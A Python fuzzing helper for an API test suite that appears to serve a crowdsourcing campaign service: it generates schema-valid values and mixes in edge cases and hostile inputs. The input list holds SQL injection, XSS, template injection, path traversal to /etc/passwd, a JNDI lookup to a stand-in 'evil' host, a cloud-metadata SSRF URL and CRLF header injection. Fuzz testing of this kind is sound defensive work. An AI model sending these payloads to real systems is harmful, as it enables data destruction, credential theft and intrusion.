"""Values that are right by a schema, and values that nobody should take."""

import random
from typing import Any

TEXTS = (
    "", " ", "\0", "a\0b", "\ud800", "\udc00x", "\uffff", "\u202e", "x" * 300, "é" * 600, "💩" * 40,
    "'; DROP TABLE campaign; --", "' OR 1=1 --", "{{7*7}}", "${7*7}", "{% include '/etc/passwd' %}",
    "<script>alert(1)</script>", "../../../etc/passwd", "..\\..\\x", "%s%s%s%n", "%00", "=cmd()",
    "${jndi:ldap://evil}", "NaN", "Infinity", "-0", "1e999", "0x10", "٣", "١٢", "null", "true",
    "undefined", "[]", "{}", "a,b;c", "a\r\nSet-Cookie: x=y", "\x1b[31m", "2026-02-30", "-1",
    "99999999999999999999", "2147483648", "9223372036854775808", "1.5", "1e3", "0", "00000",
    "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff", "{x}",
    "018f0000-0000-7000-8000-00000000000", "javascript:alert(1)", "http://169.254.169.254/",
    "http://[::1]:80", "file:///etc/passwd", "//evil", "http://", "a@b", "attribute:", "colour:red",
    "(a+)+$", "\\", '"', "%", "_", "*", ":", "a" * 65 + "@example.org", "İ", "ſ", "\u0000\ud83d",
)  # fmt: skip
VALUES: tuple[Any, ...] = (
    None, True, False, 0, -1, 1, 2, 3, 255, 32768, 2**31 - 1, 2**31, -(2**31) - 1, 2**53, 2**63,
    2**64, 10**30, -(10**400), 0.1, -0.0, 1e308, 5e-324, 1.0, [], {}, [[]], [None], [0], [-1],
    [1, 1], ["x"], [{}], {"": ""}, {"x": [{"y": []}]}, {"__proto__": {}}, [True], [2**31], [2**63],
    [0.5], [10**30], ["\0"], {"\0": "\0"}, {"type": "x"}, {"a": None}, list(range(101)),
    ["x"] * 11,
)  # fmt: skip


def a_size(rng: random.Random, most: int) -> int:
    """Mostly small, now and then all of it."""
    return most if rng.random() < 0.05 else rng.choice((1, 10, 100, 1001, min(most, 5000)))


def a_value(rng: random.Random) -> Any:
    chance = rng.random()
    if chance < 0.45:
        return rng.choice(TEXTS)
    if chance < 0.95:
        return rng.choice(VALUES)
    if chance < 0.98:
        return "x" * a_size(rng, 900_000)
    return [rng.choice((0, None, "x"))] * a_size(rng, 100_000)


class Sampler:
    """Values that fit a JSON schema, with ids that exist."""

    def __init__(
        self,
        rng: random.Random,
        schemas: dict[str, Any],
        ids: dict[str, str],
        lease: dict[str, Any],
    ) -> None:
        self.rng, self.schemas, self.ids, self.lease = rng, schemas, ids, lease

    def value(self, schema: dict[str, Any], name: str = "") -> Any:
        if "$ref" in schema:
            schema = self.schemas[schema["$ref"].rpartition("/")[2]]
        if "enum" in schema:
            return self.rng.choice(schema["enum"])
        if "const" in schema:
            return schema["const"]
        for several in ("anyOf", "oneOf", "allOf"):
            if several in schema:
                return self.value(self.rng.choice(schema[several]), name)
        if name in ("images", "groups"):
            n = len(self.lease["images"])
            shown = [image["image"] for image in self.lease["images"]]
            return shown if name == "images" else [self.rng.randrange(3) for _ in range(n)]
        return self._of_type(schema, name)

    def _of_type(self, schema: dict[str, Any], name: str) -> Any:
        rng = self.rng
        match schema.get("type"):
            case "object":
                return self._object(schema)
            case "array":
                n = max(schema.get("minItems", 0), rng.choice((0, 1, 2)))
                return [self.value(schema.get("items", {}), name) for _ in range(n)]
            case "integer" | "number":
                least = schema.get("minimum", schema.get("exclusiveMinimum", 0))
                most = schema.get("maximum", least + 5)
                whole = rng.choice((least, most, least + 1))
                return int(whole) if schema["type"] == "integer" else float(whole)
            case "boolean":
                return rng.random() < 0.5
            case "null":
                return None
        return self.word(name, schema)

    def _object(self, schema: dict[str, Any]) -> dict[str, Any]:
        required = schema.get("required", ())
        values = {
            name: self.value(part, name)
            for name, part in schema.get("properties", {}).items()
            if name in required or self.rng.random() < 0.5
        }
        if not values and self.rng.random() < 0.5:
            values[self.rng.choice(("thanks", "consent", "practice_pass", "x", "measures"))] = "x"
        return values

    def word(self, name: str, schema: dict[str, Any] | None = None) -> str:
        """A text for a field or a parameter of this name."""
        if name in self.ids:
            return self.ids[name]
        schema = schema or {}
        if schema.get("format") == "uuid":
            return self.ids[
                self.rng.choice([id_name for id_name in self.ids if id_name.endswith("_id")])
            ]
        words = {
            "file": ("answers.csv", "archive.zip", "embedding.npz", "groups.json", "x.parquet"),
            "section": ("map", "results", "annotators", "recruiting", "x"),
            "action": (
                "pause",
                "resume",
                "start",
                "ping",
                "disable",
                "secret",
                "open",
                "close",
                "x",
            ),
            "decision": ("warn", "exclude", "release", "cancel", "x"),
            "channel": ("mturk", "prolific", "link"),
            "url": ("https://example.org/hook", "http://127.0.0.1/"),
        }
        text = self.rng.choice(words.get(name, ("a word", "colour", "x" * 16)))
        return text.ljust(schema.get("minLength", 0), "x")[: schema.get("maxLength", 200)]
